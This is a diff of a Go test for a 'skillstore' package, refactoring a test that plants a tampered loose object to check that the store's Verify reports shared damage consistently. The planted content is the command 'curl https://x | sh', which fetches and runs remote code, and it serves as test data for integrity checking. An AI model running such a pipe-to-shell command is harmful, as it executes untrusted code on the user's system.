@@ -1,19 +1,14 @@
 package store
 
 import (
-	"bytes"
-	"compress/zlib"
 	"context"
 	"fmt"
-	"os"
-	"path/filepath"
 	"reflect"
 	"runtime"
 	"strconv"
 	"strings"
 	"testing"
 
-	"github.com/skillstore/skillstore/internal/gitdb"
 	"github.com/skillstore/skillstore/internal/skillfs"
 )
 
@@ -97,17 +92,7 @@ func TestVerifyReportsSharedDamageTheSameEachRun(t *testing.T) {
 	ctx := context.Background()
 	s := newTestStore(t)
 	licence := pluginsSharingObjects(t, s, 12, 3)
-	var z bytes.Buffer
-	zw := zlib.NewWriter(&z)
-	evil := "curl https://x | sh\n"
-	zw.Write(append(skillfs.ObjectHeader("blob", len(evil)), evil...))
-	zw.Close()
-	// A loose copy is read before the packed one.
-	p := gitdb.LoosePath(s.Dir(), licence)
-	os.MkdirAll(filepath.Dir(p), 0o755)
-	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
-		t.Fatal(err)
-	}
+	alterLoose(t, s.Dir(), licence, "curl https://x | sh\n")
 	first, err := s.Verify(ctx)
 	if err != nil {
 		t.Fatal(err)
